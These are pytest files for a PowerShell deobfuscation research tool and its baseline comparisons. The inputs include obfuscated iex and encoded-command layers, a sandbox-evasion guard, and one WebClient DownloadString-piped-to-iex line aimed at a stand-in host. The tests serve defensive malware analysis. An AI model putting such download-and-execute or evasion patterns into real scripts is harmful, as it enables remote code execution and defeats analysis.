        memo.put(key, True, "x" * (MAX_VALUE_CHARS + 1), "recovered", 1)
        assert len(memo) == 0

    def test_mutable_value_is_not_stored(self):
        memo = SubtreeMemo()
        key = memo.make_key("@(1,2)", None, None, None)
        memo.put(key, True, [1, 2], "recovered", 1)
        assert len(memo) == 0

    def test_default_budget_is_bounded(self):
        assert SubtreeMemo().max_entries == DEFAULT_MAX_ENTRIES


class TestPipelineDeterminism:
    def test_memo_on_and_off_are_byte_identical_on_corpus(self):
        # The acceptance property: over a generated corpus, a memo-on
        # run differs from a memo-off run only in speed and the memo
        # counters — scripts and telemetry match byte for byte.
        on = Deobfuscator(options=PipelineOptions(subtree_memo=True))
        off = Deobfuscator(options=PipelineOptions(subtree_memo=False))
        total_hits = 0
        for sample in generate_corpus(count=12, seed=77):
            ra = on.deobfuscate(sample.script)
            rb = off.deobfuscate(sample.script)
            assert ra.script == rb.script
            assert ra.layers == rb.layers
            assert ra.iterations == rb.iterations
            da, db = ra.stats.to_dict(), rb.stats.to_dict()
            # Only speed-side telemetry may differ (budget_spent counts
            # sandbox steps actually executed, which the memo avoids).
            for volatile in (
                "phase_seconds", "spans",
                "subtree_memo_hits", "subtree_memo_misses",
                "intern_hits", "intern_misses", "budget_spent",
            ):
                da.pop(volatile, None), db.pop(volatile, None)
            assert da == db
            assert rb.stats.subtree_memo_hits == 0
            total_hits += ra.stats.subtree_memo_hits
        # The corpus repeats idioms; the memo must actually fire.
        assert total_hits > 0

    def test_memo_counters_surface_in_stats(self):
        script = "$a = ('x'+'y'); $b = ('x'+'y'); iex ($a + $b)\n"
        result = Deobfuscator().deobfuscate(script)
        stats = result.stats.to_dict()
        assert "subtree_memo_hits" in stats
        assert "intern_hits" in stats
        assert stats["subtree_memo_misses"] >= 1
