"""Tests for static type members and instance member dispatch."""

import pytest

from repro.runtime.errors import EvaluationError, UnsupportedOperationError
from repro.runtime.members import (
    get_member,
    invoke_dict_method,
    invoke_list_method,
    invoke_number_method,
    invoke_string_method,
    set_member,
)
from repro.runtime.statics import (
    call_static,
    get_static_property,
    has_type,
    normalize_type_name,
    resolve_type,
)
from repro.runtime.values import PSChar


class TestTypeNameNormalization:
    @pytest.mark.parametrize(
        "raw,expected",
        [
            ("[System.Convert]", "convert"),
            ("Convert", "convert"),
            ("TEXT.ENCODING", "text.encoding"),
            ("sYsTeM.tExT.eNcOdInG", "text.encoding"),
            ("cH`AR", "char"),
        ],
    )
    def test_normalize(self, raw, expected):
        assert normalize_type_name(raw) == expected

    def test_synonyms(self):
        assert resolve_type("int") == "int32"
        assert resolve_type("Text.UnicodeEncoding") == "text.encoding"

    def test_has_type(self):
        assert has_type("convert")
        assert not has_type("System.Frobnicator")


class TestConvertStatics:
    def test_base64_roundtrip(self):
        blob = call_static("convert", "ToBase64String", [b"data"])
        assert bytes(call_static("convert", "FromBase64String", [blob])) == (
            b"data"
        )

    def test_toint32_radix(self):
        assert call_static("convert", "ToInt32", ["ff", 16]) == 255
        assert call_static("convert", "ToInt32", ["777", 8]) == 511
        assert call_static("convert", "ToInt32", ["101", 2]) == 5

    def test_tochar(self):
        assert call_static("convert", "ToChar", [65]) == PSChar("A")

    def test_tostring_radix(self):
        assert call_static("convert", "ToString", [255, 16]) == "ff"
        assert call_static("convert", "ToString", [5, 2]) == "101"

    def test_bad_base64(self):
        with pytest.raises(EvaluationError):
            call_static("convert", "FromBase64String", ["!!!"])


class TestStringStatics:
    def test_join(self):
        assert call_static("string", "Join", ["-", ["a", "b"]]) == "a-b"

    def test_format(self):
        assert call_static("string", "Format", ["{0}!", "hi"]) == "hi!"

    def test_concat(self):
        assert call_static("string", "Concat", ["a", "b", "c"]) == "abc"

    def test_empty_property(self):
        assert get_static_property("string", "Empty") == ""

    def test_isnullorempty(self):
        assert call_static("string", "IsNullOrEmpty", [""]) is True
        assert call_static("string", "IsNullOrEmpty", ["x"]) is False


class TestArrayAndMath:
    def test_array_reverse_in_place(self):
        data = [1, 2, 3]
        call_static("array", "Reverse", [data])
        assert data == [3, 2, 1]

    def test_math(self):
        assert call_static("math", "Abs", [-3]) == 3
        assert call_static("math", "Pow", [2, 10]) == 1024

    def test_unknown_type_rejected(self):
        with pytest.raises(UnsupportedOperationError):
            call_static("diagnostics.process", "Start", ["calc"])

    def test_unknown_member_rejected(self):
        with pytest.raises(UnsupportedOperationError):
            call_static("convert", "LaunchMissiles", [])


class TestStringMethods:
    def test_replace_is_case_sensitive(self):
        # .NET String.Replace is ordinal — unlike the -replace operator.
        assert invoke_string_method("aAa", "Replace", ["a", "b"]) == "bAb"

    def test_split_multiple_separators(self):
        assert invoke_string_method("a-b_c", "Split", [["-", "_"]]) == [
            "a", "b", "c",
        ]

    def test_substring_bounds_checked(self):
        with pytest.raises(EvaluationError):
            invoke_string_method("abc", "Substring", [10])

    def test_tochararray(self):
        chars = invoke_string_method("hi", "ToCharArray", [])
        assert chars == [PSChar("h"), PSChar("i")]

    def test_padleft(self):
        assert invoke_string_method("5", "PadLeft", [3, "0"]) == "005"

    def test_indexof(self):
        assert invoke_string_method("hello", "IndexOf", ["l"]) == 2
        assert invoke_string_method("hello", "IndexOf", ["z"]) == -1

    def test_trim_with_chars(self):
        assert invoke_string_method("xxaxx", "Trim", ["x"]) == "a"

    def test_unknown_method(self):
        with pytest.raises(UnsupportedOperationError):
            invoke_string_method("x", "Explode", [])


class TestOtherMembers:
    def test_string_length(self):
        assert get_member("hello", "Length") == 5

    def test_list_count(self):
        assert get_member([1, 2], "Count") == 2

    def test_dict_key_fallthrough(self):
        assert get_member({"Url": "http://x/"}, "url") == "http://x/"

    def test_dict_keys(self):
        assert get_member({"a": 1}, "Keys") == ["a"]

    def test_set_member_on_dict(self):
        table = {"a": 1}
        set_member(table, "A", 2)
        assert table == {"a": 2}

    def test_number_tostring_hex(self):
        assert invoke_number_method(255, "ToString", ["X2"]) == "FF"

    def test_list_indexof(self):
        assert invoke_list_method([5, 6], "IndexOf", [6]) == 1

    def test_dict_containskey(self):
        assert invoke_dict_method({"Key": 1}, "ContainsKey", ["key"])
