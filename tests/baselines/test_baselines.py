"""Tests pinning each baseline's abilities AND failure modes.

These tests encode the paper's Table II/III/IV expectations: a baseline
passing a test it should fail would silently invalidate the comparison
benches, so both directions are asserted.
"""

import base64

import pytest

from repro.baselines import ALL_BASELINES, LiEtAl, PSDecode, PowerDecode, PowerDrive
from repro.baselines.common import (
    regex_merge_concat,
    regex_remove_ticks,
)


def enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


class TestRegexHelpers:
    def test_tick_removal(self):
        assert regex_remove_ticks("nE`w-oB`jEcT") == "nEw-oBjEcT"

    def test_tick_removal_is_blind_to_strings(self):
        # The imprecision the paper criticizes: ticks inside single-quoted
        # strings are data, but the regex removes them anyway.
        assert regex_remove_ticks("'a`b'") == "'ab'"

    def test_concat_merge(self):
        assert regex_merge_concat("'a'+'b'+'c'") == "'abc'"

    def test_concat_merge_with_spaces(self):
        assert regex_merge_concat("'a' + 'b'") == "'ab'"


class TestPSDecode:
    def test_handles_ticking(self):
        result = PSDecode().deobfuscate("nE`w-oB`jEcT Net.WebClient")
        assert "`" not in result.script

    def test_does_not_handle_concat_literal(self):
        result = PSDecode().deobfuscate("$x = 'wri'+'te-host'")
        assert "'wri'+'te-host'" in result.script

    def test_unwraps_one_iex_layer(self):
        result = PSDecode().deobfuscate("iex 'write-host hi'")
        assert result.script == "write-host hi"

    def test_unwraps_iex_with_concat_argument(self):
        # Overriding catches the evaluated argument.
        result = PSDecode().deobfuscate("iex ('wri'+'te-host hi')")
        assert result.script == "write-host hi"

    def test_layers_recorded(self):
        result = PSDecode().deobfuscate("iex 'iex ''write-host x'''")
        assert len(result.layers) >= 2


class TestPowerDrive:
    def test_handles_ticking_and_concat(self):
        result = PowerDrive().deobfuscate("$x = 'a'+'b'")
        assert "'ab'" in result.script

    def test_joins_lines_breaking_multiline_scripts(self):
        source = "$a = 1\n$b = 2"
        result = PowerDrive().deobfuscate(source)
        assert "\n" not in result.script

    def test_does_not_handle_base64(self):
        blob = base64.b64encode(b"payload").decode()
        source = (
            "[Text.Encoding]::UTF8.GetString("
            f"[Convert]::FromBase64String('{blob}'))"
        )
        result = PowerDrive().deobfuscate(source)
        assert "payload" not in result.script

    def test_single_layer_only(self):
        two_layers = "iex 'iex ''write-host deep'''"
        result = PowerDrive().deobfuscate(two_layers)
        assert result.script != "write-host deep"


class TestPowerDecode:
    def test_does_not_handle_ticking(self):
        result = PowerDecode().deobfuscate("nE`w-oB`jEcT x")
        assert "`" in result.script

    def test_handles_concat(self):
        result = PowerDecode().deobfuscate("$x = 'a'+'b'")
        assert "'ab'" in result.script

    def test_handles_replace_calls(self):
        result = PowerDecode().deobfuscate("'aXc'.Replace('X','b')")
        assert "'abc'" in result.script

    def test_handles_encoded_command(self):
        result = PowerDecode().deobfuscate(
            f"powershell -enc {enc('write-host hi')}"
        )
        assert result.script == "write-host hi"

    def test_handles_several_layers(self):
        script = "write-host deep"
        for _ in range(3):
            script = f"iex '{script.replace(chr(39), chr(39) * 2)}'"
        result = PowerDecode().deobfuscate(script)
        assert result.script == "write-host deep"

    def test_catches_computed_invoker_via_function_resolution(self):
        # Overriding Invoke-Expression intercepts even computed spellings
        # because PowerShell resolves the final name to the function.
        source = ".($pshome[4]+$pshome[30]+'x') 'write-host hi'"
        result = PowerDecode().deobfuscate(source)
        assert result.script == "write-host hi"

    def test_dies_on_sandbox_evasion_guard(self):
        # Execution-based capture dies when an anti-analysis guard exits
        # before the invoker; static AST recovery does not (the paper's
        # core argument for Table III).
        source = (
            "if ($env:username -eq 'user') { exit }\n"
            "iex 'write-host hi'"
        )
        result = PowerDecode().deobfuscate(source)
        assert "write-host hi" != result.script.strip()
        from repro import deobfuscate

        ours = deobfuscate(source)
        assert "write-host hi" in ours.script.lower()


class TestLiEtAl:
    def test_separate_line_position_works(self):
        result = LiEtAl().deobfuscate("'wri'+'te-host hello'")
        assert result.script == "'write-host hello'"

    def test_assignment_position_missed(self):
        result = LiEtAl().deobfuscate("$fmp = 'wri'+'te-host hello'")
        assert not result.changed

    def test_pipe_position_missed(self):
        result = LiEtAl().deobfuscate("'wri'+'te-host hello' | out-null")
        assert not result.changed

    def test_variables_fail_without_context(self):
        result = LiEtAl().deobfuscate("$a = 'x'; iex ($a + 'y')")
        assert "($a + 'y')" in result.script

    def test_object_replaced_by_type_name(self):
        result = LiEtAl().deobfuscate("New-Object Net.WebClient")
        assert result.script == "System.Net.WebClient"

    def test_wrong_pshome_garbles_invoker(self):
        result = LiEtAl().deobfuscate(
            ".($pshome[4]+$pshome[30]+'x') 'payload'"
        )
        assert result.changed
        assert ".('iex')" not in result.script

    def test_no_multilayer(self):
        result = LiEtAl().deobfuscate("iex 'iex ''write-host x'''")
        assert "iex" in result.script.lower()

    def test_context_free_replacement_hits_all_occurrences(self):
        source = "'a'+'b'\nwrite-host ('a'+'b')"
        result = LiEtAl().deobfuscate(source)
        # Both occurrences replaced, including the one already fine in
        # context — the semantics hazard of global textual replacement.
        assert result.script.count("'ab'") == 2


class TestCommonBehaviour:
    @pytest.mark.parametrize("tool_class", ALL_BASELINES)
    def test_tools_never_crash_on_garbage(self, tool_class):
        result = tool_class().deobfuscate("'unterminated ((( garbage")
        assert result.script  # returns something, never raises

    @pytest.mark.parametrize("tool_class", ALL_BASELINES)
    def test_result_metadata(self, tool_class):
        result = tool_class().deobfuscate("write-host hi")
        assert result.original == "write-host hi"
        assert result.elapsed_seconds >= 0
