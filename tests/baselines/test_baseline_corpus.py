"""Baseline tools against generated corpora: ordering invariants.

These pin the comparison *shape* (who beats whom) on fresh corpora so a
regression in any re-implementation shows up outside the benches too.
"""

import pytest

from repro import Deobfuscator
from repro.analysis import extract_key_info
from repro.baselines import LiEtAl, PSDecode, PowerDecode, PowerDrive
from repro.dataset import generate_corpus


@pytest.fixture(scope="module")
def corpus():
    return generate_corpus(20, seed=555, guard_fraction=0.5)


def _url_score(tool_run, corpus) -> int:
    hits = 0
    for sample in corpus:
        truth = sample.truth.urls if sample.truth else set()
        found = extract_key_info(tool_run(sample.script).script).urls
        hits += len(found & truth)
    return hits


class TestOrdering:
    def test_ours_beats_every_baseline(self, corpus):
        ours = _url_score(Deobfuscator().deobfuscate, corpus)
        for tool in (PSDecode(), PowerDrive(), PowerDecode(), LiEtAl()):
            score = _url_score(tool.deobfuscate, corpus)
            assert ours >= score, (tool.name, score, ours)

    def test_powerdecode_is_best_baseline(self, corpus):
        scores = {
            tool.name: _url_score(tool.deobfuscate, corpus)
            for tool in (PSDecode(), PowerDrive(), PowerDecode(), LiEtAl())
        }
        assert scores["PowerDecode"] == max(scores.values())

    def test_li_is_weakest(self, corpus):
        scores = {
            tool.name: _url_score(tool.deobfuscate, corpus)
            for tool in (PSDecode(), PowerDrive(), PowerDecode(), LiEtAl())
        }
        assert scores["Li et al."] == min(scores.values())


class TestGuardEffect:
    def test_guards_defeat_execution_based_capture(self):
        guarded = generate_corpus(
            12, seed=777, guard_fraction=1.0,
            skeletons=["downloader", "two_stage"],
        )
        unguarded = generate_corpus(
            12, seed=777, guard_fraction=0.0,
            skeletons=["downloader", "two_stage"],
        )
        tool = PowerDecode()
        guarded_score = _url_score(tool.deobfuscate, guarded)
        unguarded_score = _url_score(tool.deobfuscate, unguarded)
        assert guarded_score < unguarded_score

    def test_guards_do_not_affect_static_recovery(self):
        guarded = generate_corpus(
            12, seed=777, guard_fraction=1.0,
            skeletons=["downloader", "two_stage"],
        )
        tool = Deobfuscator()
        total = sum(len(s.truth.urls) for s in guarded)
        assert _url_score(tool.deobfuscate, guarded) == total
