"""Tests for the trace_functions extension (paper Section V-C).

The default configuration must FAIL on function-wrapped decoders — that
is the paper's documented limitation — and the extension must succeed on
side-effect-free ones.
"""

import random

import pytest

from repro import PipelineOptions, Deobfuscator
from repro.obfuscation.function_wrap import (
    nested_function_decoder,
    wrap_function_decoder,
)
from repro.runtime.evaluator import Evaluator

PAYLOAD = "write-host function-hidden"


class TestPaperLimitation:
    @pytest.mark.parametrize("seed", [1, 2, 3])
    def test_default_config_fails(self, seed):
        obfuscated = wrap_function_decoder(PAYLOAD, random.Random(seed))
        result = Deobfuscator().deobfuscate(obfuscated)
        assert "function-hidden" not in result.script.lower()

    def test_sample_still_executes(self):
        obfuscated = wrap_function_decoder(PAYLOAD, random.Random(1))
        evaluator = Evaluator(enforce_blocklist=False)
        evaluator.run_script_text(obfuscated)
        assert evaluator.host.output == ["function-hidden"]


class TestExtension:
    @pytest.mark.parametrize("seed", [1, 2, 3, 4, 5])
    def test_trace_functions_recovers(self, seed):
        obfuscated = wrap_function_decoder(PAYLOAD, random.Random(seed))
        tool = Deobfuscator(options=PipelineOptions(trace_functions=True))
        result = tool.deobfuscate(obfuscated)
        assert "write-host function-hidden" in result.script.lower(), (
            obfuscated
        )

    def test_nested_functions_recovered(self):
        obfuscated = nested_function_decoder(PAYLOAD, random.Random(7))
        tool = Deobfuscator(options=PipelineOptions(trace_functions=True))
        result = tool.deobfuscate(obfuscated)
        assert "write-host function-hidden" in result.script.lower()

    def test_function_with_blocked_body_not_registered(self):
        script = (
            "function Bad-Decode { param($s) start-sleep 99; $s }\n"
            "iex (Bad-Decode 'write-host x')"
        )
        tool = Deobfuscator(options=PipelineOptions(trace_functions=True))
        result = tool.deobfuscate(script)
        # The body contains a blocklisted command: the definition is not
        # registered and the call site stays unrecovered.
        assert "Bad-Decode 'write-host x'" in result.script

    def test_behavior_preserved_with_extension(self):
        from repro.verify import same_network_behavior

        inner = (
            "(New-Object Net.WebClient)"
            ".DownloadString('http://fx.test/p')|iex"
        )
        obfuscated = wrap_function_decoder(inner, random.Random(9))
        tool = Deobfuscator(options=PipelineOptions(trace_functions=True))
        result = tool.deobfuscate(obfuscated)
        assert same_network_behavior(obfuscated, result.script)
