"""Tests for renaming and reformatting (Section III-C)."""

from repro.core.reformat import reformat_script
from repro.core.rename import (
    build_rename_plan,
    letter_proportion,
    names_look_random,
    rename_random_identifiers,
    vowel_proportion,
)
from repro.pslang.parser import try_parse


class TestRandomnessStatistics:
    def test_vowel_proportion(self):
        assert vowel_proportion("aeiou") == 1.0
        assert vowel_proportion("xyz") == 0.0
        assert vowel_proportion("12345") is None

    def test_letter_proportion(self):
        assert letter_proportion("abc") == 1.0
        assert letter_proportion("a_1") == 1 / 3

    def test_english_names_not_random(self):
        assert not names_look_random(["url", "webclient", "downloader"])

    def test_consonant_soup_is_random(self):
        assert names_look_random(["xdjmd", "lsffs", "sdfs"])

    def test_symbol_names_are_random(self):
        assert names_look_random(["____", "_1_2_", "___3"])

    def test_empty_is_not_random(self):
        assert not names_look_random([])


class TestRenamePlan:
    def test_plan_numbers_in_order(self):
        plan = build_rename_plan("$zzz = 1; $qqq = 2; $zzz + $qqq")
        assert plan.variables == {"zzz": "var0", "qqq": "var1"}

    def test_plan_empty_for_readable_names(self):
        plan = build_rename_plan("$result = 1; $counter = 2")
        assert plan.empty

    def test_function_names_planned(self):
        script = "function Xkcdq { 1 }; function Zzyzx { 2 }"
        plan = build_rename_plan(script)
        assert plan.functions == {"xkcdq": "func0", "zzyzx": "func1"}

    def test_automatic_variables_excluded(self):
        plan = build_rename_plan("$xqzf = $true; $null; $_; $xqzf")
        assert "true" not in plan.variables
        assert "_" not in plan.variables


class TestApplyRename:
    def test_variables_renamed_everywhere(self):
        script = "$xdjmd = 'v'\nwrite-host $xdjmd"
        renamed = rename_random_identifiers(script)
        assert "$var0 = 'v'" in renamed
        assert "write-host $var0" in renamed
        assert "xdjmd" not in renamed

    def test_case_insensitive_rename(self):
        script = "$XDJMD = 1; $xdjmd"
        renamed = rename_random_identifiers(script)
        assert renamed.count("$var0") == 2

    def test_function_calls_renamed(self):
        script = "function Qzxwv { 'x' }\nQzxwv"
        renamed = rename_random_identifiers(script)
        assert "function func0" in renamed
        assert renamed.strip().endswith("func0")

    def test_strings_not_renamed(self):
        script = "$qzxv = 'qzxv in string'"
        renamed = rename_random_identifiers(script)
        assert "'qzxv in string'" in renamed

    def test_result_still_parses(self):
        script = "$zzqx = 'a'; if ($zzqx) { write-host $zzqx }"
        renamed = rename_random_identifiers(script)
        ast, error = try_parse(renamed)
        assert ast is not None


class TestReformat:
    def test_collapses_runs_of_spaces(self):
        assert (
            reformat_script("write-host      hello")
            == "write-host hello"
        )

    def test_preserves_adjacency(self):
        # $a[0] must not become $a [0] (different semantics).
        assert reformat_script("$a[0]") == "$a[0]"

    def test_method_call_stays_adjacent(self):
        source = "'x'.Replace('a','b')"
        assert reformat_script(source) == source

    def test_indents_blocks(self):
        source = "if ($x) {\nwrite-host deep\n}"
        result = reformat_script(source)
        assert "\n    write-host deep" in result

    def test_collapses_blank_lines(self):
        source = "a\n\n\n\nb"
        assert reformat_script(source) == "a\nb"

    def test_joins_line_continuations(self):
        source = "write-host `\nhello"
        result = reformat_script(source)
        assert result == "write-host hello"

    def test_removes_trailing_whitespace(self):
        source = "write-host hi    \n"
        assert reformat_script(source) == "write-host hi"

    def test_result_parses(self):
        source = "foreach   ($i   in  1..3)  {   $i  }"
        result = reformat_script(source)
        ast, error = try_parse(result)
        assert ast is not None

    def test_invalid_input_unchanged(self):
        source = "'unterminated"
        assert reformat_script(source) == source

    def test_nbsp_whitespace_removed(self):
        source = "write-host\xa0\xa0hello"
        assert reformat_script(source) == "write-host hello"
