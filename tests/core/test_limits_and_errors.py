"""Robustness tests: budgets, hostile inputs, deeply nested structures."""

import pytest

from repro import PipelineOptions, Deobfuscator, deobfuscate
from repro.runtime.errors import StepLimitError
from repro.runtime.evaluator import Evaluator
from repro.runtime.limits import ExecutionBudget


class TestBudgets:
    def test_step_budget(self):
        budget = ExecutionBudget(step_limit=10)
        with pytest.raises(StepLimitError):
            for _ in range(11):
                budget.step()

    def test_loop_budget(self):
        budget = ExecutionBudget(loop_limit=5)
        with pytest.raises(StepLimitError):
            for _ in range(6):
                budget.loop_tick()

    def test_depth_budget(self):
        budget = ExecutionBudget(depth_limit=3)
        budget.enter()
        budget.enter()
        budget.enter()
        with pytest.raises(StepLimitError):
            budget.enter()

    def test_leave_restores_depth(self):
        budget = ExecutionBudget(depth_limit=2)
        for _ in range(10):
            budget.enter()
            budget.leave()

    def test_recursive_function_bounded(self):
        evaluator = Evaluator(
            budget=ExecutionBudget(depth_limit=16), enforce_blocklist=False
        )
        with pytest.raises(StepLimitError):
            evaluator.run_script_text(
                "function Recurse-Me { Recurse-Me }; Recurse-Me"
            )

    def test_self_referencing_iex_bounded(self):
        evaluator = Evaluator(
            budget=ExecutionBudget(depth_limit=16), enforce_blocklist=False
        )
        with pytest.raises(StepLimitError):
            evaluator.run_script_text("$s = 'iex $s'; iex $s")


class TestHostileInputs:
    @pytest.mark.parametrize(
        "source",
        [
            "",
            "    \n\n   ",
            "((((((((((",
            "}}}}}",
            "'" * 99,
            "$" * 50,
            "`" * 30,
            "\x00\x01\x02",
            "@'\nnever closed",
            "iex " * 200,
        ],
    )
    def test_deobfuscator_never_raises(self, source):
        result = deobfuscate(source)
        assert result.script is not None

    def test_deeply_nested_parens(self):
        source = "(" * 40 + "'x'" + ")" * 40
        result = deobfuscate(source)
        assert "'x'" in result.script

    def test_enormous_flat_concat(self):
        source = "+".join(f"'{i}'" for i in range(500))
        result = deobfuscate(source)
        expected = "".join(str(i) for i in range(500))
        assert expected in result.script

    def test_long_pipeline(self):
        source = "1..3" + " | write-output" * 30
        result = deobfuscate(source)
        assert result.script  # terminates

    def test_iteration_cap_respected(self):
        tool = Deobfuscator(options=PipelineOptions(max_iterations=1))
        result = tool.deobfuscate("iex 'iex ''iex 1''' ")
        assert result.iterations == 1


class TestUnicodeInputs:
    def test_unicode_strings_preserved(self):
        source = "write-host 'héllo wörld ★'"
        result = deobfuscate(source)
        assert "héllo wörld ★" in result.script

    def test_unicode_in_concat(self):
        result = deobfuscate("'hél'+'lo'")
        assert "'héllo'" in result.script

    def test_smart_quote_folding(self):
        result = deobfuscate("write-host ‘smart’")
        assert "smart" in result.script
