"""Additional multilayer coverage: every wrapper the layers module emits
must round-trip through the deobfuscator, for many seeds."""

import random

import pytest

from repro import deobfuscate
from repro.core.multilayer import unwrap_layers
from repro.obfuscation.layers import (
    wrap_encoded_command,
    wrap_invoke_expression,
)
from repro.obfuscation.string_obfuscator import encode_concat

PAYLOAD = "write-host roundtrip"


class TestAllWrapForms:
    @pytest.mark.parametrize("seed", range(10))
    def test_iex_wrap_forms(self, seed):
        rng = random.Random(seed)
        wrapped = wrap_invoke_expression(f"'{PAYLOAD}'", rng)
        result = deobfuscate(wrapped)
        assert result.script.strip().lower() == PAYLOAD

    @pytest.mark.parametrize("seed", range(10))
    def test_encoded_command_forms(self, seed):
        rng = random.Random(seed)
        wrapped = wrap_encoded_command(PAYLOAD, rng)
        result = deobfuscate(wrapped)
        assert result.script.strip().lower() == PAYLOAD

    @pytest.mark.parametrize("depth", [1, 2, 3, 4, 5])
    def test_arbitrary_depth(self, depth):
        rng = random.Random(depth)
        script = PAYLOAD
        for _ in range(depth):
            script = wrap_invoke_expression(
                encode_concat(script, rng), rng
            )
        result = deobfuscate(script)
        assert result.script.strip().lower() == PAYLOAD


class TestSurroundingContext:
    def test_unwrap_keeps_sibling_statements(self):
        script = "$before = 1\niex 'write-host mid'\n$after = 2"
        result, count = unwrap_layers(script)
        assert count == 1
        lines = result.splitlines()
        assert lines[0] == "$before = 1"
        assert lines[1] == "write-host mid"
        assert lines[2] == "$after = 2"

    def test_two_invokers_same_script(self):
        script = "iex 'write-host one'\niex 'write-host two'"
        result, count = unwrap_layers(script)
        assert count == 2
        assert "write-host one" in result
        assert "write-host two" in result

    def test_multistatement_payload_inlined(self):
        script = "iex 'write-host a; write-host b'"
        result, count = unwrap_layers(script)
        assert count == 1
        assert result == "write-host a; write-host b"

    def test_nested_invoker_unwraps_outer_first(self):
        script = "iex 'iex ''write-host deep'''"
        once, count = unwrap_layers(script)
        assert count == 1
        assert once == "iex 'write-host deep'"
        twice, count = unwrap_layers(once)
        assert twice == "write-host deep"
