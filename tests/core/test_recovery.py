"""Focused tests for the RecoveryEngine (Section III-B2 semantics)."""

import pytest

from repro.core.recovery import (
    MAX_PIECE_LENGTH,
    RecoveryEngine,
    quote_single,
    stringify_result,
)
from repro.runtime.values import PSChar


@pytest.fixture
def engine():
    return RecoveryEngine()


class TestEvaluatePiece:
    def test_simple(self, engine):
        ok, value = engine.evaluate_piece("'a'+'b'")
        assert ok and value == "ab"

    def test_with_variables(self, engine):
        ok, value = engine.evaluate_piece(
            "$prefix + 'tail'", variables={"prefix": "head-"}
        )
        assert ok and value == "head-tail"

    def test_unknown_variable_fails(self, engine):
        ok, _value = engine.evaluate_piece("$nope + 'x'")
        assert not ok

    def test_env_override(self, engine):
        ok, value = engine.evaluate_piece(
            "$env:custom + '!'", env_overrides={"custom": "v"}
        )
        assert ok and value == "v!"

    def test_blocked_piece_fails(self, engine):
        ok, _ = engine.evaluate_piece("start-sleep 10; 'x'")
        assert not ok

    def test_blocklist_disabled(self):
        engine = RecoveryEngine(enforce_blocklist=False)
        ok, value = engine.evaluate_piece("start-sleep 0; 'x'")
        assert ok and value == "x"

    def test_oversized_piece_rejected(self, engine):
        ok, _ = engine.evaluate_piece("'" + "a" * (MAX_PIECE_LENGTH + 1) + "'")
        assert not ok

    def test_step_budget_respected(self):
        engine = RecoveryEngine(step_limit=100)
        ok, _ = engine.evaluate_piece("foreach($i in 1..10000) { $i }")
        assert not ok


class TestRecoverPiece:
    def test_string_result_quoted(self, engine):
        assert engine.recover_piece("'a'+'b'") == "'ab'"

    def test_number_result_bare(self, engine):
        assert engine.recover_piece("6*7") == "42"

    def test_null_result_kept(self, engine):
        assert engine.recover_piece("$null") is None

    def test_bool_result_kept(self, engine):
        assert engine.recover_piece("1 -eq 1") is None

    def test_object_result_kept(self, engine):
        assert engine.recover_piece("New-Object Net.WebClient") is None

    def test_array_result_kept(self, engine):
        assert engine.recover_piece("1,2,3") is None

    def test_control_garbage_kept(self, engine):
        # A decode that lands on control bytes is a wrong decode.
        assert engine.recover_piece("[char]1 + [char]2") is None


class TestStringifyEdgeCases:
    def test_empty_string(self):
        assert stringify_result("") == "''"

    def test_newline_in_string_ok(self):
        # PS single-quoted strings may contain raw newlines.
        assert stringify_result("a\nb") == "'a\nb'"

    def test_quote_doubling(self):
        assert stringify_result("o'clock") == "'o''clock'"

    def test_float(self):
        assert stringify_result(2.5) == "2.5"

    def test_whole_float_renders_integer(self):
        assert stringify_result(3.0) == "3"

    def test_quote_single_empty(self):
        assert quote_single("") == "''"
