"""Unit tests for the SymbolTable and Algorithm 1 policy helpers."""

import pytest

from repro.core.tracing import (
    SymbolTable,
    assignment_is_traceable,
    is_recordable_value,
    is_substitutable_value,
    scope_contains,
    use_is_substitutable_position,
)
from repro.pslang import ast_nodes as N
from repro.pslang.parser import parse
from repro.pslang.visitor import scope_path
from repro.runtime.values import PSChar, ScriptBlockValue


class TestSymbolTable:
    def test_record_and_lookup_case_insensitive(self):
        table = SymbolTable()
        table.record("Url", "http://x/", ())
        assert table.lookup("URL").value == "http://x/"

    def test_remove(self):
        table = SymbolTable()
        table.record("a", 1, ())
        table.remove("A")
        assert table.lookup("a") is None

    def test_substitutable_scope_gate(self):
        table = SymbolTable()
        table.record("a", "v", (1, 2))
        assert table.substitutable("a", (1, 2, 3)) == "v"
        assert table.substitutable("a", (1,)) is None
        assert table.substitutable("a", (9, 9)) is None

    def test_substitutable_rejects_arrays(self):
        table = SymbolTable()
        table.record("k", [1, 2, 3], ())
        assert table.substitutable("k", ()) is None

    def test_values_for_evaluator_includes_arrays(self):
        table = SymbolTable()
        table.record("k", [1, 2], ())
        assert table.values_for_evaluator() == {"k": [1, 2]}

    def test_env_overrides(self):
        table = SymbolTable()
        table.record_env("Custom", "v")
        assert table.env_overrides == {"custom": "v"}


class TestValuePolicies:
    def test_recordable(self):
        assert is_recordable_value("s")
        assert is_recordable_value(5)
        assert is_recordable_value([1])
        assert is_recordable_value(b"x")
        assert not is_recordable_value(None)
        assert not is_recordable_value(object())

    def test_substitutable(self):
        assert is_substitutable_value("s")
        assert is_substitutable_value(5)
        assert is_substitutable_value(2.5)
        assert not is_substitutable_value(True)
        assert not is_substitutable_value(PSChar("x"))
        assert not is_substitutable_value([1])


def _first_assignment(script):
    ast = parse(script)
    return ast.find_all(N.AssignmentStatementAst)[0]


def _variable_named(script, name):
    ast = parse(script)
    return [
        node
        for node in ast.find_all(N.VariableExpressionAst)
        if node.name.lower() == name.lower()
    ]


class TestStructuralPolicies:
    def test_top_level_assignment_traceable(self):
        assert assignment_is_traceable(_first_assignment("$a = 1"))

    def test_loop_assignment_not_traceable(self):
        node = _first_assignment("while ($true) { $a = 1 }")
        assert not assignment_is_traceable(node)

    def test_conditional_assignment_not_traceable(self):
        node = _first_assignment("if ($c) { $a = 1 }")
        assert not assignment_is_traceable(node)

    def test_foreach_assignment_not_traceable(self):
        node = _first_assignment("foreach ($i in 1..3) { $a = $i }")
        assert not assignment_is_traceable(node)

    def test_lhs_not_substitutable(self):
        uses = _variable_named("$a = 1; $a", "a")
        assert not use_is_substitutable_position(uses[0])
        assert use_is_substitutable_position(uses[1])

    def test_loop_use_not_substitutable(self):
        uses = _variable_named(
            "$a = 1; foreach ($i in 1..2) { use $a }", "a"
        )
        assert not use_is_substitutable_position(uses[1])

    def test_conditional_use_substitutable(self):
        uses = _variable_named("$a = 1; if ($c) { use $a }", "a")
        assert use_is_substitutable_position(uses[1])

    def test_foreach_iteration_variable_not_substitutable(self):
        uses = _variable_named("foreach ($i in 1..2) { }", "i")
        assert not use_is_substitutable_position(uses[0])

